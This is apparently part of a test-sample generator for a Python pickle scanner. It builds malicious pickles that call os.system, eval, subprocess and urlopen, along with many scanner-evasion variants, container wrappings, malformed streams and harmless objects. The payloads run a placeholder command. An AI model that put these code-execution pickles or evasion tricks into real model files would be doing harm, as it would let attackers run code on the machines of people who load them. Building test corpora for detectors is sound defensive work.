# Python 2 names, which Python 3 maps in protocols below 3; commands is Python 2's own.
PYTHON2 = [
    ("__builtin__.eval", R(G("__builtin__", "eval"), CODE), "mark"),
    ("__builtin__.open", R(G("__builtin__", "open"), MARK, "w"), "mark"),
    ("__builtin__.getattr", R(R(G("__builtin__", "getattr"), R(G("__builtin__", "__import__"), "os"), "system"), TOUCH), "mark"),
    ("__builtin__.reduce", R(G("__builtin__", "reduce"), G("os", "system"), [TOUCH]), "any"),
    ("commands.getoutput", R(G("commands", "getoutput"), TOUCH), "mark"),
    ("urllib.urlopen", R(G("urllib", "urlopen"), "http://127.0.0.1:9/"), "urllib.Request any"),
    ("urllib2.urlopen", R(G("urllib2", "urlopen"), "http://127.0.0.1:9/"), "urllib.Request any"),
    ("httplib", R(R(G("__builtin__", "getattr"), R(G("httplib", "HTTPConnection"), "127.0.0.1", 9), "connect")), "socket.connect any"),
    ("copy_reg", R(G("copy_reg", "pickle"), G("decimal", "Decimal"), G("os", "system")), "any"),
    ("cPickle.loads", R(G("cPickle", "loads"), pickle_of(R(G("os", "system"), TOUCH), 2)), "mark"),
    ("itertools.imap", R(G("__builtin__", "list"), R(G("itertools", "imap"), G("os", "system"), [TOUCH])), "mark"),
    ("os.popen2", R(G("os", "popen2"), TOUCH), "any"),
    ("popen2.popen2", R(G("popen2", "popen2"), TOUCH), "any"),
    ("__builtin__.execfile", R(G("__builtin__", "execfile"), "gadget.py"), "any"),
    ("__builtin__.apply", R(G("__builtin__", "apply"), G("os", "system"), (TOUCH,)), "any"),
]

# ------------------------------------------------------------------------------------------------------- ways to write one call


def tricks():
    m, n = "os", "system"
    glob = b"cos\nsystem\n"
    call = glob + TUP + b"R"
    yield "reduce, protocol 0", b"cos\nsystem\n(S'" + TOUCH.encode() + b"'\ntR."
    yield "reduce, protocol 1", glob + b"(" + T + b"tR."
    for proto in (2, 3, 4, 5):
        yield "reduce, protocol %d" % proto, b"\x80" + bytes([proto]) + call + b"."
    yield "stack global, short", b"\x80\x04" + s4(m) + s4(n) + b"\x93" + TUP + b"R."
    yield "stack global, BINUNICODE", b"\x80\x04X\x02\0\0\0osX\x06\0\0\0system\x93" + TUP + b"R."
    yield "stack global, BINUNICODE8", b"\x80\x04\x8d\x02\0\0\0\0\0\0\0os\x8d\x06\0\0\0\0\0\0\0system\x93" + TUP + b"R."
    yield "stack global, SHORT_BINSTRING", b"\x80\x04" + bs(m) + bs(n) + b"\x93" + TUP + b"R."
    yield "stack global, BINSTRING", b"\x80\x04T\x02\0\0\0osT\x06\0\0\0system\x93" + TUP + b"R."
    yield "stack global, STRING", b"\x80\x04S'os'\nS\"system\"\n\x93" + TUP + b"R."
    yield "stack global, STRING with escapes", b"\x80\x04S'\\x6fs'\nS'syste\\155'\n\x93" + TUP + b"R."
    yield "stack global, UNICODE", b"\x80\x04Vos\nVsystem\n\x93" + TUP + b"R."
    yield "stack global, UNICODE with escapes", b"\x80\x04V\\u006fs\nV\\u0073ystem\n\x93" + TUP + b"R."
    yield "stack global in protocol 0", s4(m) + s4(n) + b"\x93" + TUP + b"R."
    yield "stack global through the memo", b"\x80\x04" + s4(m) + b"\x940" + s4(n) + b"\x940h\x00h\x01\x93" + TUP + b"R."
    yield "memo overwritten", b"\x80\x04" + s4("json") + b"q\x000" + s4(m) + b"q\x000" + s4(n) + b"q\x010h\x00h\x01\x93" + TUP + b"R."
    yield "PUT and MEMOIZE mixed", b"\x80\x04" + bs(m) + b"q\x000" + bs(n) + b"q\x010" + s4("torch._utils") + b"\x940" + s4("_rebuild_tensor_v2") + b"\x940h\x00h\x01\x93" + TUP + b"R."
    yield "memo with large index", b"\x80\x04" + s4(m) + b"r\xff\xff\xff\x000" + s4(n) + b"r\xfe\xff\xff\x000j\xff\xff\xff\x00j\xfe\xff\xff\x00\x93" + TUP + b"R."
    yield "memo as text", b"\x80\x04" + s4(m) + b"p99\n0" + s4(n) + b"p98\n0g99\ng98\n\x93" + TUP + b"R."
    yield "memo index with blanks", s4(m) + b"p 7\n0" + s4(n) + b"p+8\n0g7\ng8\n\x93" + TUP + b"R."
    yield "DUP of the name", b"\x80\x04" + s4(m) + b"20" + s4(n) + b"\x93" + TUP + b"R."
    yield "things between", b"\x80\x04" + s4(m) + b"K\x010" + s4(n) + b"K\x02K\x0300\x93" + TUP + b"R."
    yield "marks between", b"\x80\x04" + s4(m) + b"(K\x01K\x021" + s4(n) + b"(1\x93" + TUP + b"R."
    yield "a mark popped by POP", b"\x80\x04(0" + s4(m) + s4(n) + b"\x93" + TUP + b"R."
    yield "global in the memo", glob + b"q\x050h\x05" + TUP + b"R."
    yield "arguments in the memo", TUP + b"q\x070" + glob + b"h\x07R."
    yield "callable out of a tuple", b"\x80\x04" + emit(R(R(G("operator", "itemgetter"), 0), (G("os", "system"),)), 4) + TUP + b"R."
    yield "callable out of a dict", b"\x80\x04" + emit(R(R(G("builtins", "dict.get"), {"a": G("os", "system")}, "a"), TOUCH), 4) + b"."
    yield "INST", b"(" + T + b"ios\nsystem\n."
    yield "INST, result dropped", b"(" + T + b"ios\nsystem\n0N."
    yield "INST with STRING", b"(S'" + TOUCH.encode() + b"'\nios\nsystem\n."
    yield "OBJ", b"(" + glob + T + b"o."
    yield "OBJ with stack global", b"\x80\x04(" + s4(m) + s4(n) + b"\x93" + T + b"o."
    yield "OBJ of Popen", b"\x80\x04(" + s4("subprocess") + s4("Popen") + b"\x93" + emit(["touch", MARK], 2) + b"o."
    yield "INST of Popen", b"(" + emit(["touch", MARK], 1) + b"isubprocess\nPopen\n."
    yield "NEWOBJ of FileIO", b"\x80\x04" + emit(R(G("_io", "FileIO"), MARK, "w"), 4) + b"."
    yield "NEWOBJ of map", b"\x80\x04" + emit(R(G("builtins", "list"), New(G("builtins", "map"), G("os", "system"), [TOUCH])), 4) + b"."
    yield "NEWOBJ of partial", b"\x80\x04" + emit(R(New(G("functools", "partial"), G("os", "system"), TOUCH)), 4) + b"."
    yield "NEWOBJ_EX of partial", b"\x80\x04" + emit(G("functools", "partial"), 4) + emit((G("os", "system"), TOUCH), 4) + b"}\x92)R."
    yield "dropped by POP", b"\x80\x02" + call + b"0N."
    yield "dropped by POP_MARK", b"\x80\x02(" + call + b"1N."
    yield "left on the stack", b"\x80\x02" + call + b"N."
    yield "in a tuple", b"\x80\x02" + call + b"K\x01\x86."
    yield "as a dict's key", b"\x80\x02}" + call + b"K\x01s."
    yield "in a list", b"\x80\x02]" + call + b"a."
    yield "in a set", b"\x80\x04\x8f(" + call + b"\x90."
    yield "as a state", b"\x80\x02ctypes\nSimpleNamespace\n)R}X\x01\0\0\0x" + call + b"sb."
    yield "as a persistent id", b"\x80\x02" + call + b"Q."
    yield "PROTO in the middle", b"\x80\x00" + glob + b"\x80\x04" + TUP + b"R."
    yield "PROTO 5 then 0", b"\x80\x05N0\x80\x00" + call + b"."
    yield "names mapped after PROTO 2", b"\x80\x05N0\x80\x02c__builtin__\neval\nX" + struct.pack("<I", len(CODE)) + CODE.encode() + b"\x85R."
    yield "a frame that holds it", b"\x80\x04\x95" + struct.pack("<Q", len(call) + 1) + call + b"."
    yield "frames in the middle", b"\x80\x04\x95" + struct.pack("<Q", len(glob)) + glob + TUP + b"R."
    yield "after an empty frame", b"\x80\x04\x95\0\0\0\0\0\0\0\0" + call + b"."
    yield "name with dots", b"\x80\x04" + s4("shutil") + s4("os.system") + b"\x93" + TUP + b"R."
    yield "name with dots through private modules", b"\x80\x04" + s4("collections") + s4("_sys.modules") + b"\x930" + s4("tempfile") + s4("_os.system") + b"\x93" + TUP + b"R."
    yield "name with dots deep", b"\x80\x04" + s4("logging") + s4("os.path.os.system") + b"\x93" + TUP + b"R."
    yield "module through another's name", b"\x80\x04" + emit(R(R(G("builtins", "getattr"), G("shutil", "os"), "system"), TOUCH), 4) + b"."
    yield "GLOBAL with dots in protocol 4", b"\x80\x04cshutil\nos.system\n" + TUP + b"R."
    yield "twice", b"\x80\x02" + call + b"0" + call + b"."
    yield "among much data", b"\x80\x02](" + b"".join(b"J" + struct.pack("<i", i) for i in range(5000)) + call + b"e."
    yield "deep in lists", b"\x80\x02" + b"(" * 500 + call + b"l" * 500 + b"."
    yield "broken behind the call", call + b"\xff"
    yield "cut behind the call", call
    yield "cut in an operand behind the call", call + b"X\xff\0\0\0abc"
    yield "stack underflow behind the call", call + b"00000."
    yield "unknown memo behind the call", call + b"h\x63."
    yield "bad int behind the call", call + b"Iabc\n."
    yield "bad text behind the call", call + b"X\x01\0\0\0\xff."
    yield "bad type behind the call", call + b"0K\x01K\x02R."
    yield "protocol 9 behind the call", call + b"\x80\x09."
    yield "bad frame behind the call", call + b"\x95\xff\xff\xff\xff\xff\xff\xff\xff."
    yield "no STOP", b"\x80\x04" + call + b"0]"
    yield "second of two pickles", b"\x80\x02K\x07.\x80\x02" + call + b"."
    yield "third of three pickles", b"N.]." + b"\x80\x04" + call + b"."
    yield "second pickle is broken behind the call", b"\x80\x02K\x07.\x80\x02" + call + b"\xff"
    yield "second pickle in protocol 0", b"\x80\x04N.cos\nsystem\n(S'" + TOUCH.encode() + b"'\ntR."
    yield "second pickle uses the memo of the first", b"\x80\x02X\x02\0\0\0osq\x00X\x06\0\0\0systemq\x01\x86.\x80\x02h\x00h\x01\x93" + TUP + b"R."
    yield "behind bytes that are no pickle", b"\x80\x02K\x07." + b"\x00\x01\x02binary" * 8 + b"\x80\x02" + call + b"."
    yield "extension code", b"\x80\x02" + emit(R(G("copyreg", "add_extension"), "os", "system", 77), 2) + b"0\x82\x4d" + TUP + b"R."
    yield "extension code of two bytes", b"\x80\x02" + emit(R(G("copyreg", "add_extension"), "os", "system", 777), 2) + b"0\x83\x09\x03" + TUP + b"R."
    yield "extension code of four bytes", b"\x80\x02" + emit(R(G("copyreg", "add_extension"), "os", "system", 77777), 2) + b"0\x84" + struct.pack("<i", 77777) + TUP + b"R."
    yield "state setter", b"\x80\x02ctypes\nSimpleNamespace\n)R" + emit(G("os", "system"), 2) + TUP + b"R0."
    yield "BUILD on a module's function", b"\x80\x04" + emit(Build(G("json", "dumps"), (None, {"os": module("os")})), 4) + b"0" + s4("json") + s4("dumps.os.system") + b"\x93" + TUP + b"R."
    yield "BUILD on a module", b"\x80\x04" + emit(Build(module("json"), {"loads": G("os", "system")}), 4) + b"0" + s4("json") + s4("loads") + b"\x93" + TUP + b"R."
    yield "SETITEM on sys.modules", b"\x80\x04" + s4("sys") + s4("modules") + b"\x93" + s4("harmless") + emit(module("os"), 4) + b"s0" + s4("harmless") + s4("system") + b"\x93" + TUP + b"R."
    yield "SETITEMS on os.environ", b"\x80\x04" + s4("os") + s4("environ") + b"\x93(" + s4("MARK") + s4("1") + b"u."
    yield "APPEND on sys.path", b"\x80\x04" + s4("sys") + s4("path") + b"\x93" + s4(".") + b"a0" + s4("gadget") + s4("x") + b"\x93."
    yield "name put together", b"\x80\x04" + emit(R(G("builtins", "str.join"), "", ["o", "s"]), 4) + s4("system") + b"\x93" + TUP + b"R."
    yield "name put together by unknown means", b"\x80\x04" + emit(R(G("textwrap", "dedent"), "os"), 4) + s4("system") + b"\x93" + TUP + b"R."
    yield "name put together by format", b"\x80\x04" + emit(R(G("builtins", "str.format"), "{}s", "o"), 4) + s4("system") + b"\x93" + TUP + b"R."
    yield "args computed", b"\x80\x04" + s4("os") + s4("system") + b"\x93" + emit(R(G("builtins", "tuple"), [TOUCH]), 4) + b"R."
    yield "args a list inside", b"\x80\x04" + emit(R(G("subprocess", "call"), R(G("builtins", "list"), ("touch", MARK))), 4) + b"."
    yield "long GLOBAL names padded", b"\x80\x02" + b"K\x010" * 3000 + call + b"."
    yield "LONG as text before", b"L12345678901234567890L\n0" + call + b"."
    yield "STRING that pickletools refuses", b"S'a'  \n0" + call + b"." if sys.version_info < (3,) else b"S'a'\n0" + call + b"."
    yield "UNICODE with carriage return", b"Va\rb\n0" + call + b"."
    yield "INT with blanks", b"I 7 \n0" + call + b"."
    yield "INT True", b"I01\n0" + call + b"."
    yield "LONG without L", b"L5\n0" + call + b"."
    yield "LONG1 of no bytes", b"\x8a\x000" + call + b"."
    yield "memo index of zeros", b"N" + b"p0000\n0g0\n0" + call + b"."
    yield "two marks at STOP", b"((" + call + b"."
    yield "empty containers", b")0]0}0\x8f0" + call + b"."
    yield "byte arrays", b"\x80\x05\x96\x03\0\0\0\0\0\0\0abc0" + call + b"."
    yield "APPENDS of nothing", b"](e0" + call + b"."


def dangerous():
    for name, obj, effect in GADGETS:
        if effect == "skip":
            continue
        for proto in (2, 4):
            if proto < 4 and any("." in g.name for g in globals_in(obj)):
                continue
            yield "%s, protocol %d" % (name, proto), "function", effect, pickle_of(obj, proto)
    for name, obj, effect in PYTHON2:
        for proto in (0, 2):
            yield "%s, protocol %d" % (name, proto), "python 2", effect, pickle_of(obj, proto)
    call = R(G("os", "system"), TOUCH)
    for name, data in containers(pickle_of(call, 2)):
        yield "container: " + name, "container", "any", data
    for name, effect, obj in scan_gadgets.GADGETS + scan_packages.GADGETS:
        yield name, "function", effect, pickle_of(obj, 4)
    for name, effect, obj in scan_techniques.samples():
        yield name, "technique", effect, pickle_of(obj, 4)
    for label, name, cls, effect, data in scan_streams.samples():
        if label == "dangerous":
            yield name, cls, effect, data
    for name, data in tricks():
        yield name, "stream", "any" if "persistent" in name or "second" in name or "third" in name or "behind bytes" in name or "state setter" in name or "environ" in name else "mark", data


def containers(data):
    """The pickle in every container, whole and broken."""
    import bz2
    import gzip
    import lzma
    import tarfile
    import zipfile
    import zlib

    def zipped(name="archive/data.pkl", method=0, inner=data):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", method) as f:
            f.writestr(name, inner)
            f.writestr("archive/version", "3\n")
        return out.getvalue()

    def npy(descr, inner=data):
        header = ("{'descr': '%s', 'fortran_order': False, 'shape': (1,), }" % descr).ljust(117).encode() + b"\n"
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + inner

    def changed(raw, signature, at, new):
        raw = bytearray(raw)
        start = raw.find(signature) + at
        raw[start : start + len(new)] = new
        return bytes(raw)

    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as f:
        info = tarfile.TarInfo("data.pkl")
        info.size = len(data)
        f.addfile(info, io.BytesIO(data))
    for name, method in (("stored", 0), ("deflated", 8), ("bzip2", 12), ("lzma", 14)):
        yield "zip, " + name, zipped(method=method)
    yield "zip, another name", zipped("archive/config.p")
    yield "zip, no extension", zipped("weights")
    yield "zip, keras", zipped("config.pkl")
    yield "zip in a zip", zipped("inner.zip", inner=zipped())
    yield "zip, wrong CRC in the directory", changed(zipped(), b"PK\x01\x02", 16, b"\0\0\0\0")
    yield "zip, wrong CRC in the header", changed(zipped(), b"PK\x03\x04", 14, b"\1\2\3\4")
    yield "zip, encrypted by its flags", changed(changed(zipped(), b"PK\x01\x02", 8, b"\1\0"), b"PK\x03\x04", 6, b"\1\0")
    yield "zip, patched by its flags", changed(zipped(method=8), b"PK\x01\x02", 8, b"\x20\0")
    yield "zip, strongly encrypted by its flags", changed(zipped(), b"PK\x01\x02", 8, b"\x40\0")
    yield "zip, another name in the header", changed(zipped(), b"archive/data", 0, b"archive/dota")
    yield "zip, another size in the directory", changed(zipped(), b"PK\x01\x02", 20, b"\1\0\0\0")
    yield "zip, another size in the header", changed(zipped(), b"PK\x03\x04", 18, b"\1\0\0\0")
    yield "zip, another method in the header", changed(zipped(), b"PK\x03\x04", 8, b"\x08\0")
    yield "zip, no directory", zipped()[: zipped().find(b"PK\x01\x02")]
    yield "zip, bytes before", b"bytes" * 99 + zipped()
    yield "zip, bytes behind", zipped() + b"bytes" * 99
    yield "zip behind a pickle", pickle_of([1, 2], 2) + zipped()
    yield "gzip", gzip.compress(data)
    yield "gzip, wrong CRC", gzip.compress(data)[:-8] + b"12345678"
    yield "gzip, cut", gzip.compress(data + bytes(range(256)) * 40)[:-20]
    yield "bz2", bz2.compress(data)
    yield "xz", lzma.compress(data)
    yield "lzma", lzma.compress(data, format=lzma.FORMAT_ALONE)
    yield "zlib", zlib.compress(data)
    yield "gzip in gzip", gzip.compress(gzip.compress(data))
    yield "tar", tar.getvalue()
    yield "tar.gz", gzip.compress(tar.getvalue())
    yield "npy of objects", npy("|O")
    yield "npy of lying type", npy("<f8")
    yield "npz", zipped("arr_0.npy", inner=npy("|O"))
    yield "legacy torch", pickle_of(0x1950A86A20F9469CFC6C, 2) + pickle_of(1001, 2) + pickle_of({"a": 1}, 2) + data + pickle_of([], 2) + b"\0" * 64


def globals_in(x):
    if isinstance(x, G):
        yield x
    children = ()
    if isinstance(x, R):
        children = (x.function,) + x.args
    elif isinstance(x, New):
        children = (x.cls,) + x.args
    elif isinstance(x, Build):
        children = (x.target, x.state)
    elif isinstance(x, Then):
        children = x.objects
    elif isinstance(x, (tuple, list)):
        children = x
    elif isinstance(x, dict):
        children = list(x) + list(x.values())
    for child in children:
        for found in globals_in(child):
            yield found


# --------------------------------------------------------------------------------------------------------------------- malformed


def malformed():
    yield "empty", b""
    yield "only PROTO", b"\x80\x04"
    yield "protocol 6", b"\x80\x06N."
    yield "protocol 255", b"\x80\xffN."
    yield "only STOP", b"."
    yield "POP of nothing", b"0."
    yield "no STOP", b"\x80\x02K\x07"
    yield "cut in an int", b"\x80\x02J\x01\x02"
    yield "cut in a text", b"\x80\x02X\x10\0\0\0abc"
    yield "cut in a line", b"Vabc"
    yield "a line of a GLOBAL missing", b"cos\n"
    yield "unknown opcode", b"\xff."
    yield "unknown opcode after data", b"\x80\x02K\x07\xfe."
    yield "GET of nothing", b"h\x00."
    yield "GET with text", b"gabc\n."
    yield "negative PUT", b"Np-1\n."
    yield "TUPLE without a mark", b"K\x01t."
    yield "APPENDS without a list", b"K\x01(K\x02e."
    yield "SETITEMS odd", b"}(K\x01u."
    yield "APPEND to an int", b"K\x01K\x02a."
    yield "SETITEM in a list", b"K\x01K\x02K\x03s."
    yield "BUILD of an int", b"K\x01}K\x02K\x03sb."
    yield "REDUCE of an int", b"K\x01)R."
    yield "REDUCE of a str", b"X\x01\0\0\0a)R."
    yield "NEWOBJ of a list", b"])\x81."
    yield "REDUCE without a tuple", b"cbuiltins\nlist\nK\x01R."
    yield "STACK_GLOBAL of ints", b"\x80\x04K\x01K\x02\x93."
    yield "EXT of 0", b"\x80\x02\x82\x00."
    yield "EXT unknown", b"\x80\x02\x82\x63."
    yield "bad UTF-8", b"X\x02\0\0\0\xc3\x28."
    yield "bad frame", b"\x80\x04\x95\xff\0\0\0\0\0\0\0N."
    yield "negative length", b"T\xff\xff\xff\xffabc."
    yield "negative LONG4", b"\x8b\xff\xff\xff\xff."
    yield "bad int", b"I12x\n."
    yield "bad float", b"Fabc\n."
    yield "bad long", b"L1xL\n."
    yield "STRING without quotes", b"Sabc\n."
    yield "STRING with one quote", b"S'abc\n."
    yield "unhashable key", b"}]K\x01s."
    yield "unhashable in a frozenset", b"\x80\x04(]\x91."
    yield "mark at the top", b"K\x01(."
    yield "empty module", b"c\nsystem\n."
    yield "huge length", b"\x8d\xff\xff\xff\xff\xff\xff\xff\x7fa."
    yield "text", b"This is no pickle at all.\n"
    yield "HTML", b"<!DOCTYPE html><html></html>\n"
    yield "zeros", b"\0" * 64
    yield "a JPEG's beginning", b"\xff\xd8\xff\xe0\0\x10JFIF\0"
    yield "NEXT_BUFFER missing then broken", b"\x80\x05\x97\xff"


# ---------------------------------------------------------------------------------------------------------------------- harmless


def harmless():
    import pickle

    for name, obj in harmless_objects():
        for proto in (0, 2, 4, 5) if isinstance(obj, (int, str, list, dict, tuple)) else (2, 4):
            if proto > pickle.HIGHEST_PROTOCOL:
                continue
            try:
                data = pickle.dumps(obj, protocol=proto)
            except Exception:
                continue
            yield "%s, protocol %d" % (name, proto), "data", data
    for name, data in by_value():
        yield name, "code by value", data
    for name, cls, data in scan_harmless.samples():
        yield name, cls, data
    for name, cls, data in scan_data.samples():
        yield name, cls, data
    state = {"layer.weight": 0}
    yield "a torch state dict", "torch", torch_like()
    for name, data in containers(pickle.dumps({"a": [1, 2.5, "x"]}, 2)):
        # What is broken is no harmless file.
        if not any(word in name for word in ("cut", "size", "method", "lying", "no directory", "flags", "CRC")):
            yield "container: " + name, "container", data
    yield "several pickles", "several", pickle.dumps(1) + pickle.dumps([2]) + pickle.dumps({"a": state})
    yield "a harmless pickle inside", "nested", pickle_of(R(G("pickle", "loads"), pickle.dumps([1, 2], 2)), 4)
    yield "bytes encoded for Python 2", "data", pickle_of(b"\x00\xff\x80", 2)
    yield "a bound method of a type", "data", pickle_of(R(G("builtins", "getattr"), G("datetime", "datetime"), "now"), 2)


def torch_like():
    def tensor(key, shape):
        storage = b"(" + s4("storage") + b"ctorch\nFloatStorage\n" + s4(key) + s4("cpu") + b"K\x10tQ"
        stride = emit((shape[-1], 1), 2)
        return b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00" + emit(shape, 2) + stride + b"\x89ccollections\nOrderedDict\n)RtR"

    out = b"\x80\x02ccollections\nOrderedDict\n)R("
    for i in range(4):
        out += s4("layer%d.weight" % i) + tensor(str(i), (4, 4))
    return out + b"u."


def harmless_objects():
    import array, collections, datetime, decimal, enum, fractions, functools, ipaddress, itertools, operator, pathlib, random, re, types, uuid

    yield "None", None
    yield "ints", [0, 1, -1, 2**31, 2**70]
    yield "floats", [0.0, 1.5, float("inf")]
    yield "texts", ["", "spam", "os.system", "eval(x)", "\u20ac", "cos\nsystem\n", "import os"]
    yield "bytes", [b"", b"spam", b"\x80\x04", b"cos\nsystem\n(S'true'\ntR."]
    yield "bytearray", bytearray(b"spam")
    yield "dicts", {"a": {"b": [1, (2, 3)]}, 1: None, (1, 2): "x"}
    yield "deep", functools.reduce(lambda x, _: [x], range(200), [])
    yield "sets", [{1, 2}, frozenset([3])]
    yield "complex", 1 + 2j
    yield "range and slice", [range(3), slice(1, 2, 3)]
    yield "types", [int, str, dict, list, object, type(None), Exception, ValueError]
    yield "exceptions", [ValueError("x"), KeyError(1), OSError(2, "x"), StopIteration(3)]
    yield "UnicodeDecodeError", UnicodeDecodeError("utf-8", b"x", 0, 1, "no")
    yield "dates", [datetime.datetime(2020, 1, 2, 3, 4, 5), datetime.date(2020, 1, 2), datetime.time(1), datetime.timedelta(3), datetime.timezone.utc]
    yield "Decimal", decimal.Decimal("1.5")
    yield "Fraction", fractions.Fraction(1, 3)
    yield "UUID", uuid.UUID(int=7)
    yield "paths", [pathlib.PurePosixPath("/a/b"), pathlib.PurePath("x")]
    yield "Path", pathlib.Path("/tmp/x")
    yield "OrderedDict", collections.OrderedDict([("a", 1)])
    yield "defaultdict", collections.defaultdict(list, {"a": [1]})
    yield "defaultdict int", collections.defaultdict(int, {"a": 1})
    yield "Counter", collections.Counter("spam")
    yield "deque", collections.deque([1, 2], 5)
    yield "ChainMap", collections.ChainMap({1: 2})
    yield "UserDict", collections.UserDict({1: 2})
    yield "array", array.array("d", [1.0, 2.0])
    yield "regular expression", re.compile("a.*b", re.I)
    yield "random", random.Random(7)
    yield "IP addresses", [ipaddress.ip_address("127.0.0.1"), ipaddress.ip_network("10.0.0.0/8")]
    yield "SimpleNamespace", types.SimpleNamespace(a=1)
    yield "struct_time", __import__("time").gmtime(0)
    yield "stat_result", os.stat("/")
    yield "partial of a type", functools.partial(int, base=2)
    yield "operators", [operator.itemgetter(1), operator.attrgetter("a.b"), operator.methodcaller("upper"), operator.add]
    yield "functions by reference", [len, sorted, max, __import__("math").sqrt, os.path.join, __import__("json").dumps]
    yield "iterators", [iter([1, 2]), iter({1: 2}), enumerate([1]), zip([1], [2]), itertools.count(3)]
    yield "reversed", reversed([1, 2])
    yield "map", map(str, [1])
    yield "StringIO", io.StringIO("x")
    yield "BytesIO", io.BytesIO(b"x")
    yield "logger", __import__("logging").getLogger("x")
    yield "HTTPStatus", __import__("http").HTTPStatus.OK
    yield "signal", __import__("signal").SIGINT
    yield "socket family", __import__("socket").AF_INET
    yield "Namespace", __import__("argparse").Namespace(a=1)
    yield "URL", __import__("urllib.parse").parse.urlparse("http://x/y?z")
    yield "ConfigParser", __import__("configparser").ConfigParser()
    yield "Element", __import__("xml.etree.ElementTree").etree.ElementTree.Element("a")
    yield "message", __import__("email").message_from_string("A: b\n\nx")
    yield "cookie", __import__("http.cookies").cookies.SimpleCookie("a=b")
    yield "signature", __import__("inspect").signature(os.path.join)
    yield "Ellipsis", [Ellipsis, NotImplemented]
    yield "Template", __import__("string").Template("$x")
    yield "CompletedProcess", subprocess.CompletedProcess(["x"], 0)
    yield "CalledProcessError", subprocess.CalledProcessError(1, "x")
    yield "ctypes", __import__("ctypes").c_int(3)
    yield "syntax tree", __import__("ast").parse("x = 1")
    yield "statistics", __import__("statistics").NormalDist(0, 1)
    yield "Match", __import__("difflib").Match(1, 2, 3)
    yield "TarInfo", __import__("tarfile").TarInfo("x")
    yield "ZipInfo", __import__("zipfile").ZipInfo("x")
    yield "Parameter", __import__("inspect").Parameter("x", __import__("inspect").Parameter.KEYWORD_ONLY)
    yield "typing", __import__("typing").List[int]
    yield "type alias", __import__("typing").Optional[str]
    yield "GenericAlias", list[int] if sys.version_info >= (3, 9) else None
    yield "mappingproxy keys", list({1: 2}.keys())
    yield "enum flags", re.I | re.M
    yield "timezone", datetime.timezone(datetime.timedelta(hours=2))
    yield "Formatter", __import__("logging").Formatter("%(message)s")
    yield "LogRecord", __import__("logging").LogRecord("a", 1, "b", 2, "c", None, None)
    yield "TracebackException", __import__("traceback").FrameSummary("a", 1, "b")
    yield "TokenInfo", __import__("tokenize").TokenInfo(1, "x", (1, 0), (1, 1), "x")
    yield "UserList", collections.UserList([1])
    yield "TextWrapper", __import__("textwrap").TextWrapper()
    for i in range(20):
        yield "a record %d" % i, {"id": i, "name": "user%d" % i, "tags": ["a", "b"] * i, "score": i / 7, "nested": {"x": [None, True, (i,)]}}
    try:
        import zoneinfo
        yield "ZoneInfo", zoneinfo.ZoneInfo("UTC")
    except Exception:
        pass
    for maker in (numpy_objects, pandas_objects, sklearn_objects, scipy_objects, other_objects):
        try:
            for pair in maker():
                yield pair
        except ImportError:
            pass


def numpy_objects():
    import numpy as np

    for dtype in ("i1", "i4", "i8", "u2", "f2", "f4", "f8", "c16", "?", "S3", "U3", "M8[s]", "m8[D]"):
        yield "array " + dtype, np.zeros((2, 3), dtype=dtype)
    yield "array in Fortran order", np.asfortranarray(np.arange(6.0).reshape(2, 3))
    yield "array of objects", np.array([1, "a", None], dtype=object)
    yield "records", np.zeros(2, dtype=[("a", "i4"), ("b", "f8", (2,))])
    yield "scalars", [np.float64(1.5), np.int32(3), np.bool_(True), np.str_("x"), np.datetime64("2020-01-01")]
    yield "dtypes", [np.dtype("f8"), np.dtype([("a", "i4")])]
    yield "types of numpy", [np.float32, np.int64, np.ndarray, np.dtype]
    yield "ufuncs", [np.add, np.log1p, np.sqrt]
    yield "functions of numpy", [np.mean, np.median]
    yield "RandomState", np.random.RandomState(3)
    yield "Generator", np.random.default_rng(3)
    yield "masked array", np.ma.array([1, 2], mask=[0, 1])
    yield "matrix", np.matrix([[1]])
    yield "poly1d", np.poly1d([1, 2])
    yield "Polynomial", np.polynomial.Polynomial([1, 2])
    yield "recarray", np.rec.array([(1, 2.0)], dtype=[("a", int), ("b", float)])


def pandas_objects():
    import pandas as pd

    yield "DataFrame", pd.DataFrame({"a": [1, 2], "b": ["x", "y"], "c": [1.5, None]})
    yield "Series", pd.Series([1, 2], index=["a", "b"])
    yield "DatetimeIndex", pd.date_range("2020-01-01", periods=3)
    yield "MultiIndex", pd.MultiIndex.from_tuples([(1, "a"), (2, "b")])
    yield "Categorical", pd.Categorical(["a", "b", "a"])
    yield "Timestamp", pd.Timestamp("2020-01-01")
    yield "Timedelta", pd.Timedelta("1 day")
    yield "Period", pd.Period("2020-01")
    yield "Interval", pd.interval_range(0, 3)
    yield "nullable", pd.array([1, None], dtype="Int64")
    yield "NA", [pd.NA, pd.NaT]
    yield "tz", pd.date_range("2020-01-01", periods=3, tz="UTC")
    yield "offset", pd.offsets.MonthEnd(2)


def sklearn_objects():
    import numpy as np
    from sklearn import cluster, compose, decomposition, ensemble, feature_extraction, gaussian_process, impute, linear_model, model_selection, naive_bayes, neighbors, neural_network, pipeline, preprocessing, svm, tree

    x = np.random.RandomState(0).rand(20, 3)
    y = (x[:, 0] > 0.5).astype(int)
    models = [
        linear_model.LinearRegression(), linear_model.LogisticRegression(), linear_model.Ridge(), linear_model.SGDClassifier(),
        tree.DecisionTreeClassifier(), ensemble.RandomForestClassifier(3), ensemble.GradientBoostingClassifier(n_estimators=3), ensemble.HistGradientBoostingClassifier(max_iter=3),
        ensemble.IsolationForest(n_estimators=3), ensemble.AdaBoostClassifier(n_estimators=3), svm.SVC(), svm.LinearSVC(), neighbors.KNeighborsClassifier(algorithm="kd_tree"), neighbors.KNeighborsClassifier(algorithm="ball_tree"),
        naive_bayes.GaussianNB(), cluster.KMeans(2), decomposition.PCA(2), preprocessing.StandardScaler(), preprocessing.MinMaxScaler(), preprocessing.OneHotEncoder(),
        preprocessing.PolynomialFeatures(), impute.SimpleImputer(), neural_network.MLPClassifier((4,), max_iter=5), gaussian_process.GaussianProcessRegressor(),
        preprocessing.FunctionTransformer(np.log1p), neighbors.KernelDensity(),
    ]
    import warnings

    for model in models:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            model.fit(x, y)
        yield type(model).__name__, model
    yield "Pipeline", pipeline.make_pipeline(preprocessing.StandardScaler(), linear_model.LogisticRegression()).fit(x, y)
    yield "GridSearchCV", model_selection.GridSearchCV(tree.DecisionTreeClassifier(), {"max_depth": [1, 2]}, cv=2).fit(x, y)
